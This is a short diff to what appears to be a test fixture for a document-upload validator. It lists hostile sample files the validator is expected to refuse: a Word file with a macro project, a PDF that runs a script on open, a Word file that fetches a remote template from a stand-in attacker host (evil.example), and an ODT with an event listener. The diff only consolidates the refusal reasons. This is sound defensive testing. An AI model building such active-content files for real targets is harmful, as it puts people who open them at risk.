@@ -108,15 +108,15 @@ export const BAD_FILES: readonly BadFile[] = [
     content: compound({ WordDocument: wordStream({ flags: 0x0100 }) }),
     told: REFUSED.protected,
   },
-  { name: 'macros.docx', content: parts('word/vbaProject.bin', 'x'), told: REFUSED.macros },
-  { name: 'runs.pdf', content: pdf({ catalog: `/OpenAction ${SCRIPT}` }), told: REFUSED.pdfScript },
+  { name: 'macros.docx', content: parts('word/vbaProject.bin', 'x'), told: REFUSED.active },
+  { name: 'runs.pdf', content: pdf({ catalog: `/OpenAction ${SCRIPT}` }), told: REFUSED.active },
   {
     name: 'fetches.docx',
     content: parts(
       'word/_rels/document.xml.rels',
       relationships(external('attachedTemplate', 'http://evil.example/t.dotm')),
     ),
-    told: REFUSED.external,
+    told: REFUSED.active,
   },
   {
     name: 'entities.docx',
@@ -126,5 +126,5 @@ export const BAD_FILES: readonly BadFile[] = [
     ),
     told: REFUSED.unsafeMarkup,
   },
-  { name: 'listens.odt', content: odt({ inside: '<event-listener/>' }), told: REFUSED.macros },
+  { name: 'listens.odt', content: odt({ inside: '<event-listener/>' }), told: REFUSED.active },
 ]
